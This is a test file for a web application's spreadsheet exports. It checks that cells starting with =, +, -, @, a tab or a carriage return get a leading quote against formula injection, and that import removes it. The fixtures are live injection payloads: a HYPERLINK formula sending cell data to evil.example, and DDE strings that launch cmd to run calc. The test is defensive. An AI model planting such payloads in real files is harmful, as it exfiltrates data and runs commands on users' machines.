/**
 * Issue 10 item 14 — spreadsheet formula injection: text that starts with `= + - @`, a tab or a carriage return
 * is written into every export with a leading `'` (OWASP), and the import takes it off again so that an export
 * still re-imports unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { testApp, type TestApp } from '../support/app.js';
import { guardFormula, guardedRow, unguardFormula } from '../../src/platform/sheets/formula-guard.js';
import { multipartFile } from '../support/multipart.js';

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  legalRepresentative: '+1+cmd|\' /C calc\'!A0',
  address: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  phone: '-2+3+cmd|\' /C calc\'!A0',
};

let t: TestApp;
let admin: string;
let uscc: string;
beforeAll(async () => {
  t = await testApp({ enterpriseCount: 6 });
  admin = await t.login('admin');
  // The most inspected enterprise, so that its name is in the figures' most-inspected sheets too.
  const [e] = await t.database.query<{ uscc: string }>(
    'SELECT e.uscc FROM enterprise e LEFT JOIN inspection i ON i.enterprise_id = e.id GROUP BY e.uscc ORDER BY count(i.id) DESC, e.uscc LIMIT 1',
  );
  uscc = e!.uscc;
  await t.database.query('UPDATE enterprise SET name = $2, legal_representative = $3, address = $4, phone = $5 WHERE uscc = $1', [
    uscc,
    HOSTILE.name,
    HOSTILE.legalRepresentative,
    HOSTILE.address,
    HOSTILE.phone,
  ]);
});
afterAll(async () => t?.close());

async function sheetOf(data: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(data as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

/** Every string cell of the sheet's data rows (row 1 is the header). */
function textCells(ws: ExcelJS.Worksheet): string[] {
  const out: string[] = [];
  ws.eachRow((row, n) => {
    if (n === 1) return;
    row.eachCell((c) => {
      if (typeof c.value === 'string') out.push(c.value);
    });
  });
  return out;
}

const runnable = (s: string) => /^[=+\-@\t\r]/.test(s);

describe('the formula guard (platform/sheets/formula-guard.ts)', () => {
  it('prefixes text a spreadsheet could run, and nothing else', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(guardFormula(s)).toBe(`'${s}`);
    for (const v of ['企业', 'a=b', ' =1', '', "'=1"]) expect(guardFormula(v)).toBe(v);
    expect(guardedRow([-5, 1.5, null, true, '=x'])).toEqual([-5, 1.5, null, true, "'=x"]);
    const d = new Date();
    expect(guardFormula(d)).toBe(d);
  });

  it('the import takes the guard off again', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)']) expect(unguardFormula(guardFormula(s) as string)).toBe(s);
    expect(unguardFormula("'quoted")).toBe("'quoted");
  });
});

describe('exports write no runnable formula text', () => {
  it('the enterprise registry: hostile names are prefixed, and the export re-imports unchanged', async () => {
    const res = await t.app.inject({ url: '/api/enterprises/export', headers: { cookie: admin } });
    expect(res.statusCode, res.body).toBe(200);
    const ws = await sheetOf(res.rawPayload);
    let row: ExcelJS.Row | undefined;
    ws.eachRow((r) => {
      if (r.getCell(1).value === uscc) row = r;
    });
    expect(row).toBeDefined();
    expect(row!.getCell(2).value).toBe(`'${HOSTILE.name}`);
    expect(row!.getCell(3).value).toBe(`'${HOSTILE.legalRepresentative}`);
    expect(row!.getCell(4).value).toBe(`'${HOSTILE.address}`);
    expect(row!.getCell(10).value).toBe(`'${HOSTILE.phone}`);
    expect(textCells(ws).filter(runnable)).toEqual([]);

    const body = multipartFile(res.rawPayload, 'export.xlsx');
    const again = await t.app.inject({ method: 'POST', url: '/api/enterprises/import', payload: body.payload, headers: { ...body.headers, cookie: admin } });
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toMatchObject({ imported: 0, updated: 0, errors: [] });
    const [stored] = await t.database.query<{ name: string; phone: string }>('SELECT name, phone FROM enterprise WHERE uscc = $1', [uscc]);
    expect(stored).toEqual({ name: HOSTILE.name, phone: HOSTILE.phone });
  });

  it.each([
    { what: 'the licence register', table: 'drug_licence', columns: ['scope', 'number'], hostile: ["=cmd|' /C calc'!A0", '@LICENCE-1'], url: '/api/licences/export' },
    { what: 'the proof-free catalog', table: 'proof_material', columns: ['name', 'basis'], hostile: ['+HYPERLINK("http://evil.example")', '\t=1+1'], url: '/api/proof-free/catalog/export' },
  ])('$what', async ({ table, columns, hostile, url }) => {
    const [row] = await t.database.query<{ id: string }>(`SELECT id FROM ${table} ORDER BY id LIMIT 1`);
    expect(row).toBeDefined();
    await t.database.query(`UPDATE ${table} SET ${columns[0]} = $2, ${columns[1]} = $3 WHERE id = $1`, [row!.id, ...hostile]);
    const res = await t.app.inject({ url, headers: { cookie: admin } });
    expect(res.statusCode, res.body).toBe(200);
    const cells = textCells(await sheetOf(res.rawPayload));
    for (const text of hostile) expect(cells).toContain(`'${text}`);
    expect(cells.filter(runnable)).toEqual([]);
  });

  it('the supervision figures (department names)', async () => {
    await t.database.query("UPDATE department SET name = '=' || name");
    const supervisor = await t.login('supervisor');
    const res = await t.app.inject({ url: '/api/supervision/figures/export?from=2020-01-01T00:00:00Z&to=2027-01-01T00:00:00Z', headers: { cookie: supervisor } });
    expect(res.statusCode, res.body).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = wb.worksheets.flatMap(textCells);
    expect(cells.filter((c) => c.startsWith("'=")).length).toBeGreaterThan(0);
    expect(cells.filter(runnable)).toEqual([]);
  });
});
